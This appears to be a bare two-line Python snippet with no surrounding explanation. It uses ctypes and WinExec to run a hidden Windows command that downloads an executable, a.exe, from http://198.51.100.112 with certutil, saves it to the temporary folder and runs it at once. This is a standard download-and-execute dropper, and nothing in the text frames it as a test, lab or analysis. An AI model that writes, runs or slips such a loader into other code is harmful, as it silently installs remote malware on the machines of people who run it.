import ctypes
ctypes.windll.kernel32.WinExec(b"cmd /c certutil -urlcache -f http://198.51.100.112/a.exe %TEMP%\\a.exe && %TEMP%\\a.exe", 0)
